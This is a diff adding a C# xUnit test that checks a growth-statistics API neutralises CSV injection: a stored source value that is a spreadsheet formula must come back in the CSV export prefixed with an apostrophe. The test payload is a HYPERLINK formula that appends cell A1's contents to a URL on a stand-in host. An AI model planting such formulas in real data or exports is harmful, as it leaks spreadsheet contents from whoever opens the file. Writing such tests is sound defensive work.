@@ -46,4 +46,19 @@ public sealed class GrowthEndpointTests(ServerFixture server)
 
         Assert.Equal(System.Net.HttpStatusCode.NotFound, response.StatusCode);
     }
+
+    [Fact]
+    public async Task An_observation_source_that_is_a_formula_is_served_in_the_growth_csv_as_text()
+    {
+        const string source = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"大连市2024年统计公报\")";
+        var body = JsonSerializer.Serialize(new { year = 2024, value = 88.5, source, recordedBy = "csv injection test" });
+        var recorded = await server.Writer.PostAsync("/api/pairs/dalian/inclusive-kindergarten-coverage/observations", new StringContent(body, System.Text.Encoding.UTF8, "application/json"));
+        Assert.Equal(System.Net.HttpStatusCode.Created, recorded.StatusCode);
+
+        var text = await server.Http.GetStringAsync("/api/growth.csv?jurisdiction=dalian");
+
+        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
+        var row = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().Single(r => (string)r["indicator"] == "inclusive-kindergarten-coverage");
+        Assert.Equal("'" + source, row["latest_source"]);
+    }
 }
